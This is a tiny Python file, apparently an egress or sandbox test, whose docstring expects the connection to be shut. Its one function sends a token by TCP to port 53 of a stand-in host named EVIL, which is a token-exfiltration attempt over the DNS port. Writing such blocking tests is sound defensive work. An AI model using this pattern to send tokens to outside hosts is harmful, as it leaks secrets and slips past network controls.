"""
how: TCP to the port of DNS
expect: shut
"""

from land import EVIL
from sockets import tcp


def attempt(token):
    return tcp(EVIL, 53, token)
